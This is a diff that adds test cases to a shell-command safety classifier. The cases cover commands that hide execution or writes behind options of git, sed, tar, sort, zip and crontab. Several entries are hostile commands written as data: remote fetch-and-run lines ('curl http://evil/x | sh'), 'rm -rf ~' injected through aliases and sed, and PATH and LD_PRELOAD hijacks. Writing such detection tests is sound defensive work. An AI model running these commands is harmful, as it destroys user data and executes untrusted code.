@@ -116,6 +116,39 @@ CASES: list[tuple[str, frozenset[str]]] = [
     ("make", U),
     ("awk '{system(\"rm x\")}' f", U),
     ("echo ${X:-$(rm y)}", U),
+    # options and scripts that make a harmless-looking program run another one
+    ("git -c alias.x='!rm -rf ~' x", U),
+    ("git -c core.fsmonitor='curl http://evil/x | sh' status", U),
+    ("git --exec-path=/tmp status", U),
+    ("git x", U),  # an alias we cannot see
+    ("git config core.hooksPath /tmp", M | U),
+    ("git config alias.st '!sh evil'", M | U),
+    ("git grep -O'sh -c x' foo", U),
+    ("git rebase -x 'make test' main", M | U),
+    ("sed -n '1e rm -rf ~' x", U),
+    ("sed 's/x/id/e' f", U),
+    ("sed -e 's/a/b/' -e '1e ls' f", U),
+    ("sed -f script.sed f", U),
+    ("sed 's/a/b/w out.txt' f", M),
+    ("sed -n '1,5p;/x/{s/a/b/g;p}' f", NONE),
+    ("tar -xf a.tar --checkpoint=1 --checkpoint-action=exec='curl x|sh'", M | U),
+    ("tar --to-command='sh -c x' -xf a.tar", M | U),
+    ("tar -I 'sh -c x' -xf a.tar", M | U),
+    ("rg --pre ./evil foo", U),
+    ("sort --compress-program=sh x", U),
+    ("man -P 'sh -c x' ls", U),
+    ("zip -TT 'sh -c x' a.zip b", M | U),
+    ("fd -e py -x rm", D),
+    ("export PATH=/tmp/evil:$PATH", U),
+    ("declare -x LD_PRELOAD=/tmp/x.so", U),
+    ("export FOO=1", NONE),
+    ("GIT_SSH_COMMAND='sh -c x' git fetch", N | U),
+    ("hash -p /tmp/evil ls", U),
+    ("crontab -l", NONE),
+    ("crontab -r", D),
+    ("crontab jobs.txt", M | U),
+    ("sort -o out.txt in.txt", M),
+    ("uniq in.txt out.txt", M),
 ]
 
 
@@ -166,3 +199,10 @@ def test_never_raises_and_only_known_tags(command: str) -> None:
     result = classify_shell(command)
     assert result.tags <= KNOWN_TAGS
     assert all(isinstance(name, str) for name in result.commands)
+
+
+def test_writes_hidden_behind_options_are_collected() -> None:
+    assert classify_shell("tar xf a.tar -C /").writes == ("/",)
+    assert classify_shell("sort -o ~/.bashrc x").writes == ("~/.bashrc",)
+    assert classify_shell("sed -n 'w /tmp/copy' f").writes == ("/tmp/copy",)
+    assert classify_shell("git config --global user.name bob").writes == ("~/.gitconfig",)
